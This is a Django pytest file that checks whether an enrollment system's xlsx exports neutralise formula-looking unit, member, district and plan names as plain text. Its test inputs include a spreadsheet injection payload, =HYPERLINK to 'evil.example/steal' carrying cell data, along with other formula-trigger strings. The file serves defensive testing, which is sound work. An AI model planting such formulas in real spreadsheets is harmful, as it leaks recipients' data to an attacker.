"""A formula-looking name in every xlsx the system writes: never a live formula, always neutralised text.

Each workbook is opened as a zip and its parts read as XML: no <f> (formula) element anywhere, and no
string cell that begins with = + - @ (or a tab/CR), whoever wrote the name (an agent, a roster, the
administrator)."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from core.xlsx import FORMULA_TRIGGERS, neutralise
from enrollment.documents import roster_errors_xlsx
from tests.badinput.conftest import client_for

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/steal?"&A1,"点击查看")'
EVIL_NAMES = [EVIL, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "＝HYPERLINK(1)"]


def strings_of(content: bytes) -> list[str]:
    """Every string cell's text (shared and inline) and asserts no part holds a formula."""
    book = zipfile.ZipFile(io.BytesIO(content))
    texts = []
    for name in book.namelist():
        if not name.endswith(".xml"):
            continue
        xml = book.read(name).decode("utf-8")
        assert not re.search(r"<(\w+:)?f[ >]", xml), f"a formula in {name}"
        if name == "xl/sharedStrings.xml" or name.startswith("xl/worksheets/"):
            texts += [_unescape(t) for t in re.findall(r"<t(?: [^>]*)?>(.*?)</t>", xml, flags=re.S)]
    return texts


def _unescape(text: str) -> str:
    return text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&amp;", "&")


def assert_neutralised(content: bytes, *names: str) -> None:
    texts = strings_of(content)
    for text in texts:
        assert not text.startswith(FORMULA_TRIGGERS), f"live-looking text cell: {text!r}"
    for name in names:
        assert neutralise(name) in texts or any(neutralise(name) in t for t in texts), name


def test_the_binding_form_writes_a_formula_looking_unit_name_as_text(factory):
    unit = factory.approved_unit(name=EVIL)
    agent = factory.agent(name="王五")
    from django.core.files.base import ContentFile

    from core.samples import tiny_pdf
    from units.services import unit_binding_create

    binding = unit_binding_create(
        actor=agent, unit=unit, reason="接替", upload=ContentFile(tiny_pdf("form"), name="form.pdf")
    )
    response = client_for(agent).get(reverse("units:binding_template"), {"binding": binding.pk})
    assert_neutralised(response.content, EVIL)


@pytest.mark.parametrize("name", EVIL_NAMES, ids=["hyperlink", "plus", "minus", "at", "tab", "fullwidth"])
def test_a_roster_template_from_the_previous_period_writes_member_names_as_text(factory, name):
    from enrollment.documents import roster_template_xlsx
    from enrollment.services import plan_columns

    application = factory.application(rows=factory.people(1))
    plans = plan_columns(application)
    rows = [(name, "110101199003070011", "=1+1", {"ZJ": 1})]
    content = roster_template_xlsx(application=application, plans=plans, rows=rows)
    assert_neutralised(content, name, "=1+1")


def test_the_roster_template_download_neutralises_the_unit_name(factory):
    unit = factory.approved_unit(name="@" + "青岛宏达有限公司")
    application = factory.application(unit)
    response = client_for(unit.agent).get(reverse("enrollment:roster_template", args=[application.pk]))
    strings_of(response.content)  # no formula; the name sits inside the 填写说明 text


def test_the_roster_error_list_writes_a_formula_looking_column_as_text(factory):
    from plans.models import Plan

    Plan.objects.filter(code="ZJ").update(name="=1+2")
    content = roster_errors_xlsx([[2, "=1+2(份)", "+ 份数应填写数字"], [3, "@x", "-1"]])
    assert_neutralised(content, "=1+2(份)", "+ 份数应填写数字", "@x", "-1")


def test_the_statistics_export_writes_formula_looking_district_and_plan_names_as_text(factory):
    from orgs.models import OrgNode
    from plans.models import Plan

    OrgNode.objects.filter(name="市南区").update(name=EVIL)
    Plan.objects.filter(code="ZJ").update(name="@SUM(A1:A9)")
    response = client_for(factory.city_reviewer()).get(reverse("reports:export"))
    assert response.status_code == 200
    assert_neutralised(response.content, EVIL, "@SUM(A1:A9)")


def test_every_xlsx_writer_of_the_project_goes_through_core_xlsx():
    """A new export that opens xlsxwriter directly would bypass the neutralising worksheet."""
    root = Path(settings.BASE_DIR)
    allowed = {"core/xlsx.py"}
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/")) or "/tests/" in relative or relative in allowed:
            continue
        if re.search(r"xlsxwriter\.Workbook\(|from xlsxwriter import Workbook", path.read_text("utf-8")):
            offenders.append(relative)
    assert offenders == []
